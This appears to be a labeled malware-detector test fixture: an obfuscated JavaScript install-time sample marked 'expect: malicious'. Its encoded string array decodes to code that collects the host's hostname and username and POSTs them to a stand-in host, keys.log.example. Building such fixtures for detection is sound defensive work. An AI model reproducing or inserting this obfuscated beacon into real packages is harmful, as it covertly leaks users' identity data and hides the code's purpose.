// expect: malicious
// when: install
// source: blind set 35's keystroke agent (obfuscator.io string array): the rotation turns until the first element
// decodes to the string the rotating function is called with (`if (_0x18d3(0x1b0) === _0x2f04) break`, called with
// 'child_process'); at install it reports who the host is; written here
'use strict';function _0xd(_0x1,_0x2){const _0x3=_0xa();return _0xd=function(_0x4,_0x5){_0x4=_0x4-0x1b0;let _0x6=_0x3[_0x4];return Buffer['from'](_0x6,'base64')['toString']('utf8');},_0xd(_0x1,_0x2);}
function _0xa(){const _0xl=['UE9TVA==','ZW5k','c3RyaW5naWZ5','Y2hpbGRfcHJvY2Vzcw==','b3M=','aG9zdG5hbWU=','dXNlckluZm8=','dXNlcm5hbWU=','aHR0cHM=','cmVxdWVzdA==','aHR0cHM6Ly9rZXlzLmxvZy5leGFtcGxlL2s='];_0xa=function(){return _0xl;};return _0xa();}
(function(_0xa1,_0xb1){const _0xc1=_0xd,_0xe1=_0xa1();while(!![]){try{if(_0xc1(0x1b0)===_0xb1)break;else _0xe1['push'](_0xe1['shift']());}catch(_0xf1){_0xe1['push'](_0xe1['shift']());}}}(_0xa,'child_process'));
const os=require(_0xd(0x1b1));const https=require(_0xd(0x1b5));
const who={h:os[_0xd(0x1b2)](),u:os[_0xd(0x1b3)]()[_0xd(0x1b4)]};
const req=https[_0xd(0x1b6)](_0xd(0x1b7),{method:_0xd(0x1b8)});req[_0xd(0x1b9)](JSON[_0xd(0x1ba)](who));
